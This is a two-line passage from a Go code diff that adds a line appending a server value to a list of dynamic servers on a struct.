+	hss.DynamicServers = append(hss.DynamicServers, s)
 }